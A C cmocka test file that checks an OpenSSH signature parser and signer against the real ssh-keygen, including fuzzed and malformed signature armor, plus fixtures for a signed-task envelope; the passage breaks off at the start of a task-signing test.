/*
 * test_sshsig.c - OpenSSH signatures against the real ssh-keygen
 * (sshsig.h): its signatures verify here, ours verify there, its keys load,
 * fingerprints agree; hostile armor never crashes; and a task's signature
 * envelope (tasksign.h) holds only for the task that was signed.
 *
 * Every key is made at test time by ssh-keygen in a fresh directory under
 * /tmp, removed at the end.
 */
#include "common.h"
#include "error.h"
#include "signers.h"
#include "sshsig.h"
#include "strbuf.h"
#include "task.h"
#include "tasksign.h"

#include <setjmp.h>
#include <cmocka.h>
#include <sodium.h>
#include <sys/wait.h>
#include <time.h>

#define NS DG_SSHSIG_TASK_NAMESPACE
#define MESSAGE "a message to sign\nwith two lines\n"

static char dir[64];

static int run(const char *fmt, ...) DG_PRINTF(1, 2);
static int run(const char *fmt, ...)
{
	struct dg_strbuf cmd = DG_STRBUF_INIT;
	va_list ap;
	int rc;

	va_start(ap, fmt);
	dg_strbuf_vaddf(&cmd, fmt, ap);
	va_end(ap);
	rc = system(cmd.buf);
	dg_strbuf_release(&cmd);
	if (rc == -1 || !WIFEXITED(rc))
		return -1;
	return WEXITSTATUS(rc);
}

/* DIR/name; four rotating buffers, enough for one call's arguments. */
static const char *at(const char *name)
{
	static char bufs[4][256];
	static unsigned next;
	char *b = bufs[next++ % 4];

	snprintf(b, sizeof(bufs[0]), "%s/%s", dir, name);
	return b;
}

static void read_in(struct dg_strbuf *sb, const char *name)
{
	dg_strbuf_reset(sb);
	assert_int_equal(dg_strbuf_read_file(sb, at(name), 0), 0);
}

static void write_in(const char *name, const void *data, size_t len)
{
	FILE *f = fopen(at(name), "wb");

	assert_non_null(f);
	assert_int_equal(fwrite(data, 1, len, f), len);
	assert_int_equal(fclose(f), 0);
}

/* The first line a shell command prints, without its newline. */
static void capture(struct dg_strbuf *out, const char *cmd)
{
	char line[512];
	FILE *p = popen(cmd, "r");

	assert_non_null(p);
	dg_strbuf_reset(out);
	if (fgets(line, sizeof(line), p))
		dg_strbuf_addstr(out, line);
	assert_int_equal(pclose(p), 0);
	dg_strbuf_rtrim(out);
}

/* ssh-keygen -Y sign: signs DIR/file in namespace ns, into DIR/file.sig. */
static void keygen_sign(const char *key, const char *ns, const char *file)
{
	assert_int_equal(run("ssh-keygen -q -Y sign -f '%s' -n '%s' '%s' </dev/null 2>/dev/null",
			     at(key), ns, at(file)), 0);
}

static int setup(void **state DG_UNUSED)
{
	snprintf(dir, sizeof(dir), "/tmp/dgrid-sshsig-XXXXXX");
	if (!mkdtemp(dir))
		return -1;
	if (run("ssh-keygen -q -t ed25519 -N '' -C test -f '%s' </dev/null >/dev/null", at("key")) ||
	    run("ssh-keygen -q -t ed25519 -N secret -C enc -f '%s' </dev/null >/dev/null", at("enc")) ||
	    run("ssh-keygen -q -t rsa -b 2048 -N '' -C rsa -f '%s' </dev/null >/dev/null", at("rsa")))
		return -1;
	/* DIR/msg and its signature by key, which several tests read */
	if (run("printf '%%s' '" MESSAGE "' > '%s'", at("msg")) ||
	    run("ssh-keygen -q -Y sign -f '%s' -n " NS " '%s' </dev/null 2>/dev/null", at("key"), at("msg")))
		return -1;
	return 0;
}

static int teardown(void **state DG_UNUSED)
{
	return run("rm -rf '%s'", dir);
}

/* The key in DIR/name.pub, through dg_sshkey_parse_public. */
static void public_key(unsigned char pk[DG_SSH_ED25519_PK], const char *name)
{
	struct dg_strbuf text = DG_STRBUF_INIT;
	char *type, *b64, *save = NULL;
	char pub[64];

	snprintf(pub, sizeof(pub), "%s.pub", name);
	read_in(&text, pub);
	type = strtok_r(text.buf, " \n", &save);
	b64 = strtok_r(NULL, " \n", &save);
	assert_non_null(type);
	assert_non_null(b64);
	assert_int_equal(dg_sshkey_parse_public(pk, type, b64), 0);
	dg_strbuf_release(&text);
}

static void assert_prefix(const char *s, const char *prefix)
{
	if (strncmp(s, prefix, strlen(prefix)))
		fail_msg("'%s' does not start with '%s'", s, prefix);
}

static void assert_contains(const char *s, const char *part)
{
	if (!strstr(s, part))
		fail_msg("'%s' does not contain '%s'", s, part);
}

/* --- signatures made by ssh-keygen --- */

static void test_keygen_signature_verifies(void **state DG_UNUSED)
{
	struct dg_strbuf armor = DG_STRBUF_INIT;
	struct dg_sshsig sig;
	unsigned char pk[DG_SSH_ED25519_PK];
	char altered[] = MESSAGE;
	size_t len = strlen(MESSAGE);

	read_in(&armor, "msg");
	assert_string_equal(armor.buf, MESSAGE);
	read_in(&armor, "msg.sig");
	assert_int_equal(dg_sshsig_parse(&sig, armor.buf, armor.len), 0);
	assert_string_equal(sig.namespace, NS);
	assert_string_equal(sig.hash, "sha512");
	public_key(pk, "key");
	assert_memory_equal(sig.pk, pk, sizeof(pk));
	assert_int_equal(dg_sshsig_verify(&sig, NS, MESSAGE, len), 0);

	/* the same signature is for no other namespace */
	assert_int_equal(dg_sshsig_verify(&sig, "file", MESSAGE, len), DG_EINVALID);
	assert_string_equal(dg_error_last(), "signature is for namespace 'dgrid-task', not 'file'");

	/* any one byte changed, one added or one removed: no match */
	for (size_t i = 0; i < len; i++) {
		altered[i] ^= 0x01;
		assert_int_equal(dg_sshsig_verify(&sig, NS, altered, len), DG_EINVALID);
		assert_string_equal(dg_error_last(), "signature does not match the signed bytes");
		altered[i] ^= 0x01;
	}
	assert_int_equal(dg_sshsig_verify(&sig, NS, MESSAGE "x", len + 1), DG_EINVALID);
	assert_int_equal(dg_sshsig_verify(&sig, NS, MESSAGE, len - 1), DG_EINVALID);
	assert_int_equal(dg_sshsig_verify(&sig, NS, "", 0), DG_EINVALID);

	/* a checkout with CRLF line ends (core.autocrlf) still reads */
	{
		struct dg_strbuf crlf = DG_STRBUF_INIT;

		for (size_t i = 0; i < armor.len; i++) {
			if (armor.buf[i] == '\n')
				dg_strbuf_addch(&crlf, '\r');
			dg_strbuf_addch(&crlf, armor.buf[i]);
		}
		assert_int_equal(dg_sshsig_parse(&sig, crlf.buf, crlf.len), 0);
		assert_int_equal(dg_sshsig_verify(&sig, NS, MESSAGE, len), 0);
		dg_strbuf_release(&crlf);
	}

	/* armor inside other text (a mail, a commit message) still reads */
	dg_strbuf_addstr(&armor, "trailing words\n");
	{
		struct dg_strbuf wrapped = DG_STRBUF_INIT;

		dg_strbuf_addf(&wrapped, "leading words\n%s", armor.buf);
		assert_int_equal(dg_sshsig_parse(&sig, wrapped.buf, wrapped.len), 0);
		assert_int_equal(dg_sshsig_verify(&sig, NS, MESSAGE, len), 0);
		dg_strbuf_release(&wrapped);
	}
	dg_strbuf_release(&armor);
}

static void test_keygen_other_namespace(void **state DG_UNUSED)
{
	struct dg_strbuf armor = DG_STRBUF_INIT;
	struct dg_sshsig sig;

	write_in("msg-file", MESSAGE, strlen(MESSAGE));
	keygen_sign("key", "file", "msg-file");
	read_in(&armor, "msg-file.sig");
	assert_int_equal(dg_sshsig_parse(&sig, armor.buf, armor.len), 0);
	assert_string_equal(sig.namespace, "file");
	assert_int_equal(dg_sshsig_verify(&sig, NS, MESSAGE, strlen(MESSAGE)), DG_EINVALID);
	assert_prefix(dg_error_last(), "signature is for namespace 'file'");
	/* it is a good signature, for what it was made for */
	assert_int_equal(dg_sshsig_verify(&sig, "file", MESSAGE, strlen(MESSAGE)), 0);
	dg_strbuf_release(&armor);
}

static void test_keygen_rsa_signature_refused(void **state DG_UNUSED)
{
	struct dg_strbuf armor = DG_STRBUF_INIT;
	struct dg_sshsig sig;

	write_in("msg-rsa", MESSAGE, strlen(MESSAGE));
	keygen_sign("rsa", NS, "msg-rsa");
	read_in(&armor, "msg-rsa.sig");
	assert_int_equal(dg_sshsig_parse(&sig, armor.buf, armor.len), DG_EINVALID);
	assert_contains(dg_error_last(), "key type 'ssh-rsa' is not supported");
	dg_strbuf_release(&armor);
}

/* --- signatures made here, checked by ssh-keygen --- */

static void test_sign_verified_by_keygen(void **state DG_UNUSED)
{
	struct dg_sshkey key = DG_SSHKEY_INIT;
	struct dg_strbuf armor = DG_STRBUF_INIT, allowed = DG_STRBUF_INIT, pub = DG_STRBUF_INIT;
	struct dg_sshsig sig;
	unsigned char pk[DG_SSH_ED25519_PK];
	const char *line, *nl;

	assert_int_equal(dg_sshkey_load(&key, at("key")), 0);
	assert_string_equal(key.comment, "test");
	assert_non_null(key.sk);
	public_key(pk, "key");
	assert_memory_equal(key.pk, pk, sizeof(pk));
	assert_memory_equal(key.sk + 32, pk, sizeof(pk));

	write_in("ours", MESSAGE, strlen(MESSAGE));
	dg_sshsig_sign(&armor, &key, NS, MESSAGE, strlen(MESSAGE));
	write_in("ours.sig", armor.buf, armor.len);

	/* the armor looks like ssh-keygen's: BEGIN, lines of at most 70, END */
	assert_prefix(armor.buf, "-----BEGIN SSH SIGNATURE-----\n");
	assert_true(armor.len > 30 && !strcmp(armor.buf + armor.len - 28, "-----END SSH SIGNATURE-----\n"));
	for (line = armor.buf; (nl = strchr(line, '\n')); line = nl + 1)
		assert_true(nl - line <= 70);

	read_in(&pub, "key.pub");
	dg_strbuf_addf(&allowed, "test %s", pub.buf);
	write_in("allowed", allowed.buf, allowed.len);
	assert_int_equal(run("ssh-keygen -Y verify -f '%s' -I test -n " NS " -s '%s' < '%s' >/dev/null 2>&1",
			     at("allowed"), at("ours.sig"), at("ours")), 0);
	/* the checks of ssh-keygen are real: another namespace, principal or message fails */
	assert_int_not_equal(run("ssh-keygen -Y verify -f '%s' -I test -n file -s '%s' < '%s' >/dev/null 2>&1",
				 at("allowed"), at("ours.sig"), at("ours")), 0);
	assert_int_not_equal(run("ssh-keygen -Y verify -f '%s' -I other -n " NS " -s '%s' < '%s' >/dev/null 2>&1",
				 at("allowed"), at("ours.sig"), at("ours")), 0);
	assert_int_not_equal(run("ssh-keygen -Y verify -f '%s' -I test -n " NS " -s '%s' < '%s' >/dev/null 2>&1",
				 at("allowed"), at("ours.sig"), at("key.pub")), 0);

	/* and ours reads it back */
	assert_int_equal(dg_sshsig_parse(&sig, armor.buf, armor.len), 0);
	assert_string_equal(sig.hash, "sha512");
	assert_memory_equal(sig.pk, pk, sizeof(pk));
	assert_int_equal(dg_sshsig_verify(&sig, NS, MESSAGE, strlen(MESSAGE)), 0);

	/* an empty message is a message */
	dg_strbuf_reset(&armor);
	dg_sshsig_sign(&armor, &key, NS, "", 0);
	write_in("empty", "", 0);
	write_in("empty.sig", armor.buf, armor.len);
	assert_int_equal(run("ssh-keygen -Y verify -f '%s' -I test -n " NS " -s '%s' < '%s' >/dev/null 2>&1",
			     at("allowed"), at("empty.sig"), at("empty")), 0);

	dg_sshkey_release(&key);
	assert_null(key.sk);
	assert_null(key.comment);
	dg_strbuf_release(&armor);
	dg_strbuf_release(&allowed);
	dg_strbuf_release(&pub);
}

static void test_fingerprint_matches_keygen(void **state DG_UNUSED)
{
	struct dg_strbuf out = DG_STRBUF_INIT, cmd = DG_STRBUF_INIT;
	unsigned char pk[DG_SSH_ED25519_PK];
	char fp[DG_SSH_FINGERPRINT_LEN + 1];

	dg_strbuf_addf(&cmd, "ssh-keygen -l -f '%s' | cut -d' ' -f2", at("key.pub"));
	capture(&out, cmd.buf);
	public_key(pk, "key");
	dg_sshkey_fingerprint(fp, pk);
	assert_string_equal(fp, out.buf);
	/* "SHA256:" and 43 base64 characters; the buffer is a byte larger than that */
	assert_int_equal(strlen(fp), 7 + 43);
	assert_true(strlen(fp) <= DG_SSH_FINGERPRINT_LEN);
	dg_strbuf_release(&out);
	dg_strbuf_release(&cmd);
}

static void test_public_key_round_trip(void **state DG_UNUSED)
{
	struct dg_strbuf text = DG_STRBUF_INIT, ours = DG_STRBUF_INIT;
	unsigned char pk[DG_SSH_ED25519_PK], back[DG_SSH_ED25519_PK];
	char *comment;

	public_key(pk, "key");
	dg_sshkey_format_public(&ours, pk);
	/* exactly the first two fields of key.pub */
	read_in(&text, "key.pub");
	comment = strrchr(text.buf, ' ');
	assert_non_null(comment);
	*comment = '\0';
	assert_string_equal(ours.buf, text.buf);

	assert_prefix(ours.buf, "ssh-ed25519 ");
	assert_int_equal(dg_sshkey_parse_public(back, "ssh-ed25519", ours.buf + 12), 0);
	assert_memory_equal(back, pk, sizeof(pk));
	dg_strbuf_release(&text);
	dg_strbuf_release(&ours);
}

static void test_public_key_refusals(void **state DG_UNUSED)
{
	struct dg_strbuf text = DG_STRBUF_INIT;
	unsigned char pk[DG_SSH_ED25519_PK];
	char *type, *b64, *save = NULL;

	assert_int_equal(dg_sshkey_parse_public(pk, "ssh-rsa", "AAAAB3NzaC1yc2E="), DG_EINVALID);
	assert_contains(dg_error_last(), "key type 'ssh-rsa' is not supported");
	assert_int_equal(dg_sshkey_parse_public(pk, "ssh-ed25519", "not base64!"), DG_EINVALID);
	assert_contains(dg_error_last(), "not valid base64");
	assert_int_equal(dg_sshkey_parse_public(pk, "ssh-ed25519", ""), DG_EINVALID);
	/* "ssh-ed25519" and 31 key bytes */
	assert_int_equal(dg_sshkey_parse_public(pk, "ssh-ed25519",
						"AAAAC3NzaC1lZDI1NTE5AAAAHwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
			 DG_EINVALID);

	/* an rsa key's blob under the ed25519 name */
	read_in(&text, "rsa.pub");
	type = strtok_r(text.buf, " \n", &save);
	b64 = strtok_r(NULL, " \n", &save);
	assert_non_null(b64);
	assert_string_equal(type, "ssh-rsa");
	assert_int_equal(dg_sshkey_parse_public(pk, "ssh-ed25519", b64), DG_EINVALID);
	assert_contains(dg_error_last(), "key type 'ssh-rsa' is not supported");
	dg_strbuf_release(&text);
}

static void test_load_refusals(void **state DG_UNUSED)
{
	struct dg_sshkey key = DG_SSHKEY_INIT;

	assert_int_equal(dg_sshkey_load(&key, at("enc")), DG_EINVALID);
	assert_contains(dg_error_last(), "passphrase");
	assert_contains(dg_error_last(), "ssh-keygen -Y sign");
	assert_null(key.sk);

	assert_int_equal(dg_sshkey_load(&key, at("rsa")), DG_EINVALID);
	assert_contains(dg_error_last(), "key type 'ssh-rsa' is not supported");
	assert_null(key.sk);

	/* a public key is not a private key */
	assert_int_equal(dg_sshkey_load(&key, at("key.pub")), DG_EINVALID);
	assert_contains(dg_error_last(), "not an OpenSSH private key");

	assert_int_equal(dg_sshkey_load(&key, at("no-such-key")), DG_ENOTFOUND);
	assert_contains(dg_error_last(), "no-such-key");
	assert_null(key.sk);
	assert_null(key.comment);
}

/* --- hostile armor --- */

static void armor_blob(struct dg_strbuf *out, const void *blob, size_t len)
{
	size_t n = sodium_base64_ENCODED_LEN(len, sodium_base64_VARIANT_ORIGINAL);
	char *b64 = dg_xmalloc(n);

	sodium_bin2base64(b64, n, blob, len, sodium_base64_VARIANT_ORIGINAL);
	dg_strbuf_reset(out);
	dg_strbuf_addstr(out, "-----BEGIN SSH SIGNATURE-----\n");
	for (size_t i = 0, b = strlen(b64); i < b; i += 70)
		dg_strbuf_addf(out, "%.*s\n", 70, b64 + i);
	dg_strbuf_addstr(out, "-----END SSH SIGNATURE-----\n");
	free(b64);
}

/* The binary blob inside an armored signature. */
static void unarmor_blob(struct dg_strbuf *blob, const char *armor)
{
	const char *b = strstr(armor, "-----BEGIN SSH SIGNATURE-----\n"), *e;
	size_t len;

	assert_non_null(b);
	b += 30;
	e = strstr(b, "-----END SSH SIGNATURE-----");
	assert_non_null(e);
	dg_strbuf_reset(blob);
	dg_strbuf_grow(blob, (size_t)(e - b));
	assert_int_equal(sodium_base642bin((unsigned char *)blob->buf, (size_t)(e - b), b, (size_t)(e - b),
					   "\n", &len, NULL, sodium_base64_VARIANT_ORIGINAL), 0);
	dg_strbuf_setlen(blob, len);
}

static void put_u32(struct dg_strbuf *b, uint32_t v)
{
	unsigned char c[4] = { (unsigned char)(v >> 24), (unsigned char)(v >> 16),
			       (unsigned char)(v >> 8), (unsigned char)v };

	dg_strbuf_add(b, c, 4);
}

static void put_string(struct dg_strbuf *b, const void *data, size_t len)
{
	put_u32(b, (uint32_t)len);
	dg_strbuf_add(b, data, len);
}

/* An SSHSIG blob field by field, for the refusals of a well-formed wire but bad content. */
struct fields {
	uint32_t version;
	const char *key_type;
	size_t pk_len, pk_trailing;
	const char *ns;
	size_t ns_len;
	const char *hash;
	const char *sig_type;
	size_t sig_len, sig_trailing;
	const char *reason;
};

static void make_blob(struct dg_strbuf *b, const struct fields *f)
{
	static const unsigned char zeros[128];
	struct dg_strbuf part = DG_STRBUF_INIT;

	dg_strbuf_reset(b);
	dg_strbuf_add(b, "SSHSIG", 6);
	put_u32(b, f->version);
	put_string(&part, f->key_type, strlen(f->key_type));
	put_string(&part, zeros, f->pk_len);
	dg_strbuf_add(&part, zeros, f->pk_trailing);
	put_string(b, part.buf, part.len);
	put_string(b, f->ns, f->ns_len);
	put_string(b, "", 0);
	put_string(b, f->hash, strlen(f->hash));
	dg_strbuf_reset(&part);
	put_string(&part, f->sig_type, strlen(f->sig_type));
	put_string(&part, zeros, f->sig_len);
	dg_strbuf_add(&part, zeros, f->sig_trailing);
	put_string(b, part.buf, part.len);
	dg_strbuf_release(&part);
}

#define NS64 "0123456789012345678901234567890123456789012345678901234567890123"

static const struct fields field_cases[] = {
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "sha512", "ssh-ed25519", 64, 0, NULL },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "sha256", "ssh-ed25519", 64, 0, NULL },
	{ 1, "ssh-ed25519", 32, 0, NS64, 63, "sha512", "ssh-ed25519", 64, 0, NULL },
	{ 2, "ssh-ed25519", 32, 0, NS, 10, "sha512", "ssh-ed25519", 64, 0, "version 2 is not supported" },
	{ 0, "ssh-ed25519", 32, 0, NS, 10, "sha512", "ssh-ed25519", 64, 0, "version 0 is not supported" },
	{ 1, "ecdsa-sha2-nistp256", 32, 0, NS, 10, "sha512", "ssh-ed25519", 64, 0,
	  "key type 'ecdsa-sha2-nistp256' is not supported" },
	{ 1, "sk-ssh-ed25519@openssh.com", 32, 0, NS, 10, "sha512", "ssh-ed25519", 64, 0,
	  "key type 'sk-ssh-ed25519@openssh.com' is not supported" },
	{ 1, "ssh-ed25519", 31, 0, NS, 10, "sha512", "ssh-ed25519", 64, 0, "malformed ssh-ed25519 public key" },
	{ 1, "ssh-ed25519", 33, 0, NS, 10, "sha512", "ssh-ed25519", 64, 0, "malformed ssh-ed25519 public key" },
	{ 1, "ssh-ed25519", 32, 1, NS, 10, "sha512", "ssh-ed25519", 64, 0, "malformed ssh-ed25519 public key" },
	{ 1, "ssh-ed25519", 32, 0, "", 0, "sha512", "ssh-ed25519", 64, 0, "empty or overlong namespace" },
	{ 1, "ssh-ed25519", 32, 0, NS64, 64, "sha512", "ssh-ed25519", 64, 0, "empty or overlong namespace" },
	{ 1, "ssh-ed25519", 32, 0, "dgrid\0task", 10, "sha512", "ssh-ed25519", 64, 0,
	  "empty or overlong namespace" },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "md5", "ssh-ed25519", 64, 0, "uses hash 'md5'" },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "", "ssh-ed25519", 64, 0, "uses hash ''" },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "sha512\n", "ssh-ed25519", 64, 0, "uses hash 'sha512?'" },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "sha512", "rsa-sha2-512", 64, 0, "malformed ssh-ed25519 signature" },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "sha512", "ssh-ed25519", 63, 0, "malformed ssh-ed25519 signature" },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "sha512", "ssh-ed25519", 65, 0, "malformed ssh-ed25519 signature" },
	{ 1, "ssh-ed25519", 32, 0, NS, 10, "sha512", "ssh-ed25519", 64, 1, "malformed ssh-ed25519 signature" },
};

static void test_parse_fields(void **state DG_UNUSED)
{
	struct dg_strbuf blob = DG_STRBUF_INIT, armor = DG_STRBUF_INIT;
	struct dg_sshsig sig;

	for (size_t i = 0; i < DG_ARRAY_SIZE(field_cases); i++) {
		const struct fields *f = &field_cases[i];

		make_blob(&blob, f);
		armor_blob(&armor, blob.buf, blob.len);
		if (!f->reason) {
			if (dg_sshsig_parse(&sig, armor.buf, armor.len))
				fail_msg("case %zu: refused: %s", i, dg_error_last());
			assert_int_equal(sig.namespace[f->ns_len], '\0');
			assert_memory_equal(sig.namespace, f->ns, f->ns_len);
			assert_string_equal(sig.hash, f->hash);
			/* a key of zeros and a signature of zeros: well-formed, never valid */
			assert_int_equal(dg_sshsig_verify(&sig, sig.namespace, "x", 1), DG_EINVALID);
			continue;
		}
		if (dg_sshsig_parse(&sig, armor.buf, armor.len) != DG_EINVALID)
			fail_msg("case %zu: accepted, expected '%s'", i, f->reason);
		assert_contains(dg_error_last(), f->reason);
	}
	dg_strbuf_release(&blob);
	dg_strbuf_release(&armor);
}

struct hostile {
	const char *name;
	const char *text;
	const char *reason;
};

static const struct hostile hostile_cases[] = {
	{ "empty", "", "no '-----BEGIN SSH SIGNATURE-----' line" },
	{ "no armor", "U1NIU0lHAAAAAQ==\n", "no '-----BEGIN SSH SIGNATURE-----' line" },
	{ "begin only", "-----BEGIN SSH SIGNATURE-----\nU1NIU0lHAAAAAQ==\n", "no '-----END SSH SIGNATURE-----' line" },
	{ "end before begin", "-----END SSH SIGNATURE-----\n-----BEGIN SSH SIGNATURE-----\n", "cut short" },
	{ "empty armor", "-----BEGIN SSH SIGNATURE-----\n-----END SSH SIGNATURE-----\n", "no SSHSIG magic" },
	{ "truncated base64", "-----BEGIN SSH SIGNATURE-----\nU1NIU0lHAAAAAQ\n-----END SSH SIGNATURE-----\n",
	  "not valid base64" },
	{ "one base64 char", "-----BEGIN SSH SIGNATURE-----\nU\n-----END SSH SIGNATURE-----\n", "not valid base64" },
	{ "bad base64 char", "-----BEGIN SSH SIGNATURE-----\nU1NI*0lHAAAAAQ==\n-----END SSH SIGNATURE-----\n",
	  "not valid base64" },
	{ "url-safe base64", "-----BEGIN SSH SIGNATURE-----\n_-_-\n-----END SSH SIGNATURE-----\n", "not valid base64" },
	{ "magic only", "-----BEGIN SSH SIGNATURE-----\nU1NIU0lH\n-----END SSH SIGNATURE-----\n",
	  "truncated SSH signature" },
	{ "other magic", "-----BEGIN SSH SIGNATURE-----\nU1NIU0lJAAAAAQ==\n-----END SSH SIGNATURE-----\n",
	  "no SSHSIG magic" },
	{ "magic and version", "-----BEGIN SSH SIGNATURE-----\nU1NIU0lHAAAAAQ==\n-----END SSH SIGNATURE-----\n",
	  "truncated SSH signature" },
	{ "lowercase armor", "-----begin ssh signature-----\nU1NIU0lHAAAAAQ==\n-----end ssh signature-----\n",
	  "no '-----BEGIN SSH SIGNATURE-----' line" },
};

static void test_parse_hostile(void **state DG_UNUSED)
{
	struct dg_strbuf blob = DG_STRBUF_INIT, armor = DG_STRBUF_INIT;
	struct dg_sshsig sig;
	unsigned char rnd[512];

	for (size_t i = 0; i < DG_ARRAY_SIZE(hostile_cases); i++) {
		const struct hostile *h = &hostile_cases[i];

		if (dg_sshsig_parse(&sig, h->text, strlen(h->text)) != DG_EINVALID)
			fail_msg("%s: accepted", h->name);
		if (!strstr(dg_error_last(), h->reason))
			fail_msg("%s: '%s' does not contain '%s'", h->name, dg_error_last(), h->reason);
	}
	/* not NUL-terminated: len is what counts */
	assert_int_equal(dg_sshsig_parse(&sig, "-----BEGIN SSH SIGNATURE-----", 20), DG_EINVALID);
	assert_int_equal(dg_sshsig_parse(&sig, "-----BEGIN SSH SIGNATURE-----", 0), DG_EINVALID);

	/* armor around random bytes, of every length up to 512, some with the magic */
	for (size_t n = 0; n <= sizeof(rnd); n++) {
		randombytes_buf(rnd, n);
		if (n >= 6 && n % 2)
			memcpy(rnd, "SSHSIG", 6);
		armor_blob(&armor, rnd, n);
		assert_int_equal(dg_sshsig_parse(&sig, armor.buf, armor.len), DG_EINVALID);
	}
	dg_strbuf_release(&blob);
	dg_strbuf_release(&armor);
}

/*
 * Offsets of the length fields of a well-formed blob: walks it as the
 * parser does (outer strings, then inside the key and signature).
 */
static size_t length_fields(size_t *off, size_t max, const unsigned char *p, size_t n)
{
	size_t nr = 0, pos = 6 + 4;

	for (int field = 0; field < 5 && pos + 4 <= n && nr < max; field++) {
		uint32_t len = (uint32_t)p[pos] << 24 | (uint32_t)p[pos + 1] << 16 | (uint32_t)p[pos + 2] << 8 | p[pos + 3];

		off[nr++] = pos;
		if (field == 0 || field == 4) {
			/* key blob and signature blob: two strings inside */
			size_t in = pos + 4;

			for (int k = 0; k < 2 && in + 4 <= pos + 4 + len && nr < max; k++) {
				uint32_t l = (uint32_t)p[in] << 24 | (uint32_t)p[in + 1] << 16 |
					     (uint32_t)p[in + 2] << 8 | p[in + 3];

				off[nr++] = in;
				in += 4 + l;
			}
		}
		pos += 4 + len;
	}
	return nr;
}

static void test_parse_mutilated(void **state DG_UNUSED)
{
	struct dg_strbuf good = DG_STRBUF_INIT, blob = DG_STRBUF_INIT, armor = DG_STRBUF_INIT;
	struct dg_sshsig sig;
	size_t off[16], nr;

	read_in(&armor, "msg.sig");
	unarmor_blob(&good, armor.buf);
	assert_true(good.len > 100);

	/* every prefix of a valid blob, re-armored */
	for (size_t n = 0; n < good.len; n++) {
		armor_blob(&armor, good.buf, n);
		if (dg_sshsig_parse(&sig, armor.buf, armor.len) != DG_EINVALID)
			fail_msg("prefix of %zu of %zu bytes accepted", n, good.len);
	}
	/* every prefix of the armor text itself, up to its END line without the newline */
	read_in(&armor, "msg.sig");
	for (size_t n = 0; n + 1 < armor.len; n++)
		assert_int_equal(dg_sshsig_parse(&sig, armor.buf, n), DG_EINVALID);

	/* 0xffffffff, 0x7fffffff and 0x80000000 in every length field */
	nr = length_fields(off, DG_ARRAY_SIZE(off), (const unsigned char *)good.buf, good.len);
	assert_int_equal(nr, 9);
	for (size_t i = 0; i < nr; i++) {
		static const unsigned char bad[3][4] = {
			{ 0xff, 0xff, 0xff, 0xff }, { 0x7f, 0xff, 0xff, 0xff }, { 0x80, 0, 0, 0 },
		};

		for (size_t k = 0; k < 3; k++) {
			dg_strbuf_reset(&blob);
			dg_strbuf_add(&blob, good.buf, good.len);
			memcpy(blob.buf + off[i], bad[k], 4);
			armor_blob(&armor, blob.buf, blob.len);
			if (dg_sshsig_parse(&sig, armor.buf, armor.len) != DG_EINVALID)
				fail_msg("length field at %zu set to %02x..: accepted", off[i], bad[k][0]);
		}
	}
	/* the version field too */
	dg_strbuf_reset(&blob);
	dg_strbuf_add(&blob, good.buf, good.len);
	memset(blob.buf + 6, 0xff, 4);
	armor_blob(&armor, blob.buf, blob.len);
	assert_int_equal(dg_sshsig_parse(&sig, armor.buf, armor.len), DG_EINVALID);
	assert_contains(dg_error_last(), "version 4294967295");

	/* any one bit flipped anywhere: refused, or it no longer verifies */
	for (size_t i = 0; i < good.len; i++) {
		for (int bit = 0; bit < 8; bit++) {
			dg_strbuf_reset(&blob);
			dg_strbuf_add(&blob, good.buf, good.len);
			blob.buf[i] ^= (char)(1 << bit);
			armor_blob(&armor, blob.buf, blob.len);
			if (dg_sshsig_parse(&sig, armor.buf, armor.len) == 0 &&
			    dg_sshsig_verify(&sig, NS, MESSAGE, strlen(MESSAGE)) == 0)
				fail_msg("bit %d of byte %zu flipped: still verifies", bit, i);
		}
	}
	dg_strbuf_release(&good);
	dg_strbuf_release(&blob);
	dg_strbuf_release(&armor);
}

/* --- a task's signature envelope --- */

#define TASK_BYTES "{\"task_id\": \"signed-1\", \"script\": \"echo hello\", \"timeout_seconds\": 30,\n" \
		   " \"priority\": 3, \"not_before\": \"2026-06-01T00:00:00Z\"}\n"

struct fixture {
	struct dg_sshkey key;
	struct dg_signers with, without;
	char fp[DG_SSH_FINGERPRINT_LEN + 1];
};

static void fixture_init(struct fixture *fx)
{
	struct dg_strbuf text = DG_STRBUF_INIT;
	static const char other[] = "other ssh-ed25519 "
				    "AAAAC3NzaC1lZDI1NTE5AAAAIHXmrFIg0d3WYBJ0oNNTw6mWyuAv/jyJxeTRHqIQa7VK\n";

	fx->key = (struct dg_sshkey)DG_SSHKEY_INIT;
	fx->with = (struct dg_signers)DG_SIGNERS_INIT;
	fx->without = (struct dg_signers)DG_SIGNERS_INIT;
	assert_int_equal(dg_sshkey_load(&fx->key, at("key")), 0);
	dg_sshkey_fingerprint(fx->fp, fx->key.pk);
	dg_strbuf_addstr(&text, other);
	dg_strbuf_addstr(&text, "test@example.com,ci ");
	dg_sshkey_format_public(&text, fx->key.pk);
	dg_strbuf_addstr(&text, " a comment\n");
	assert_int_equal(dg_signers_parse(&fx->with, "with", text.buf, text.len), 0);
	assert_int_equal(fx->with.nr, 2);
	assert_int_equal(dg_signers_parse(&fx->without, "without", other, strlen(other)), 0);
	assert_int_equal(fx->without.nr, 1);
	dg_strbuf_release(&text);
}

static void fixture_release(struct fixture *fx)
{
	dg_sshkey_release(&fx->key);
	dg_signers_release(&fx->with);
	dg_signers_release(&fx->without);
}

/* task parsed from run_bytes, carrying signed_bytes signed by key in namespace ns. */
static void signed_task(struct dg_task *task, const struct dg_sshkey *key, const char *ns,
			const char *run_bytes, const char *signed_bytes)
{
	struct dg_strbuf armor = DG_STRBUF_INIT;

	*task = (struct dg_task)DG_TASK_INIT;
	assert_int_equal(dg_task_parse(task, run_bytes, strlen(run_bytes), NULL, NULL), 0);
	dg_sshsig_sign(&armor, key, ns, signed_bytes, strlen(signed_bytes));
	dg_tasksign_embed(task, signed_bytes, strlen(signed_bytes), armor.buf, armor.len);
	dg_strbuf_release(&armor);
}

static int verify(struct dg_task *task, const struct dg_signers *signers)
{
	struct dg_tasksign_verdict v = DG_TASKSIGN_VERDICT_INIT;
	int ret = dg_tasksign_verify(&v, task, signers, (int64_t)time(NULL));

	dg_tasksign_verdict_release(&v);
	return ret;
}

static void test_tasksign_accepts(void **state DG_UNUSED)
{
	struct fixture fx;
